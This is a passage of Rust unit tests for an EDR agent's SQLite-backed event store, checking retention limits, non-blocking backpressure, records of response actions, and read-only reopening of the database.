    w.append_action(ActionRecord::for_request(1, now - 10 * day, "p", &Action::IsolateHost, Decision::Simulated)).unwrap();
    w.flush().unwrap();

    let report = store.enforce_retention().unwrap();
    assert_eq!(report.events_deleted, 12_001);
    assert_eq!((report.alerts_deleted, report.actions_deleted), (1, 1));
    assert!(report.complete);
    assert!(report.pages_freed > 0, "incremental vacuum released pages: {report:?}");
    assert!(report.bytes_used_after < report.bytes_used_before);
    let stats = store.stats();
    assert_eq!((stats.events, stats.alerts, stats.actions), (100, 1, 0));
    assert!(stats.oldest_time.unwrap() >= now - 60 * S);
    assert_eq!(store.query("SELECT min(id), max(id) FROM events").unwrap().rows[0], vec![json!(20_000), json!(20_099)]);
    // The deleted highest id still counts: ids never go back.
    assert_eq!(store.max_event_id().unwrap(), 1_000_000);
    assert!(store.integrity_check().unwrap().is_empty());
    // A second run has nothing to do.
    assert_eq!(store.enforce_retention().unwrap().events_deleted, 0);
}

#[test]
fn retention_by_size_keeps_the_file_from_growing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.db");
    let mut cfg = StoreConfig::new(&path);
    let max = 4 * 1024 * 1024;
    cfg.max_bytes = Some(max);
    let store = Store::open(cfg).unwrap();
    let mut sizes = Vec::new();
    let mut next = 1;
    for round in 0..12 {
        ingest(&store, mixed(next, 10_000, T0 + round * 100_000));
        next += 10_000;
        let r = store.enforce_retention().unwrap();
        assert!(r.complete);
        sizes.push(std::fs::metadata(&path).unwrap().len());
        assert!(r.bytes_used_after <= max, "round {round}: {r:?}");
    }
    // 12 rounds of 10,000 events (~1.4 MiB each) are far more than 4 MiB:
    // retention kicked in, and over the last rounds the file stays flat. It
    // peaks at about max_bytes plus one round (pages in use before the
    // round's retention); freed pages are reused, and the file shrinks at
    // the WAL checkpoint after incremental_vacuum.
    let last = &sizes[4..];
    assert!(last.iter().all(|&s| s <= max + max / 2), "file sizes {sizes:?}");
    assert!(last.iter().max().unwrap() - last.iter().min().unwrap() <= max / 16, "file sizes {sizes:?}");
    let stats = store.stats();
    let (lo, hi) = store.query("SELECT min(id), max(id) FROM events").map(|r| (r.rows[0][0].as_u64().unwrap(), r.rows[0][1].as_u64().unwrap())).unwrap();
    assert!(lo > 50_000, "the oldest were deleted (oldest id now {lo})");
    assert_eq!(hi, next - 1, "the newest are kept");
    assert_eq!(stats.events, hi - lo + 1, "deleted oldest first, no holes");
    assert!(store.integrity_check().unwrap().is_empty());
}

#[test]
fn the_writer_runs_retention_by_itself() {
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = StoreConfig::new(dir.path().join("events.db"));
    cfg.max_age = Some(Duration::from_secs(3600));
    cfg.retention_interval = Duration::from_millis(50);
    let store = Store::open(cfg).unwrap();
    let now = edr_event::time::now();
    ingest(&store, mixed(1, 1000, now - 7200 * S));
    ingest(&store, mixed(5000, 10, now));
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    // The writer commits the deletion before it adds to its counters: wait
    // for both, or a read between the two sees 10 events and 0 deleted.
    while !matches!(store.stats(), s if s.events == 10 && s.retention_deleted_events == 1000) {
        assert!(std::time::Instant::now() < deadline, "retention did not run: {:?}", store.stats());
        std::thread::sleep(Duration::from_millis(20));
    }
    let stats = store.stats();
    assert!(stats.retention_runs > 0);
    assert_eq!(stats.retention_deleted_events, 1000);
}

#[test]
fn a_full_queue_refuses_without_blocking_and_counts() {
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = StoreConfig::new(dir.path().join("events.db"));
    cfg.queue_batches = 2;
    let store = Store::open(cfg).unwrap();
    let w = store.writer();
    let (mut accepted, mut refused) = (0u64, 0u64);
    let started = std::time::Instant::now();
    for i in 0..400u64 {
        match w.append_events(Arc::new(mixed(1 + i * 256, 256, T0))) {
            Ok(()) => accepted += 256,
            Err(Backpressure::Full { events, .. }) => refused += events as u64,
            Err(other) => panic!("{other}"),
        }
    }
    let elapsed = started.elapsed();
    assert!(refused > 0, "a 2-batch queue must overflow under 400 batches");
    // Alerts have their own queue: an event flood does not cost them.
    let sample = mixed(1, 1, T0).remove(0);
    w.append_alert(&alert(1, T0, "r", &sample)).expect("alerts queue is separate");
    w.flush().unwrap();
    let stats = store.stats();
    assert_eq!(stats.events_dropped, refused);
    assert_eq!(stats.events, accepted);
    assert_eq!(stats.alerts, 1);
    assert_eq!(stats.events + stats.events_dropped, 400 * 256);
    // Never blocked: building 400 batches dominates the elapsed time.
    eprintln!("400 appends took {elapsed:?}");

    w.clone().shutdown();
    assert!(matches!(w.append_events(Arc::new(mixed(1, 3, T0))), Err(Backpressure::Closed { events: 3, .. })));
    assert!(matches!(w.flush(), Err(StoreError::WriterStopped(_))));
}

#[test]
fn an_action_is_recorded_at_decision_and_updated_with_its_outcome() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let w = store.writer();
    let mut r = ActionRecord::for_request(1, T0, "plugin:reverse-shell", &Action::QuarantineFile("/tmp/x".into()), Decision::Enforced);
    r.reason = "granted quarantine-file (enforce)".into();
    w.append_action(r.clone()).unwrap();
    w.flush().unwrap();
    r.outcome = "ok".into();
    r.detail = json!({"quarantined_to": "/var/lib/edr/quarantine/1"});
    w.append_action(r.clone()).unwrap();
    w.flush().unwrap();
    assert_eq!(store.actions(None, None, 10).unwrap(), vec![r]);
    assert_eq!(store.stats().actions, 1, "an update is not a second action");
    assert_eq!(store.max_action_id().unwrap(), 1);
}

#[test]
fn a_stopped_agents_store_opens_read_only() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.db");
    drop({
        let store = open(dir.path());
        ingest(&store, every_kind());
        store
    });
    // A clean stop checkpoints and removes the WAL.
    assert!(!dir.path().join("events.db-wal").exists());
    let ro = Store::open_read_only(&path).unwrap();
    assert_eq!(ro.stats().events, 9);
    assert_eq!(ro.timeline(TimelineKey::Pid(4242), None, None, 10).unwrap().len(), 4);
    // ... and the agent can start again while it is open.
    let store = open(dir.path());
    ingest(&store, vec![login(10, T0, "carol", "192.0.2.9", true)]);
    assert_eq!(ro.query("SELECT count(*) FROM login").unwrap().rows[0][0], 3);
}
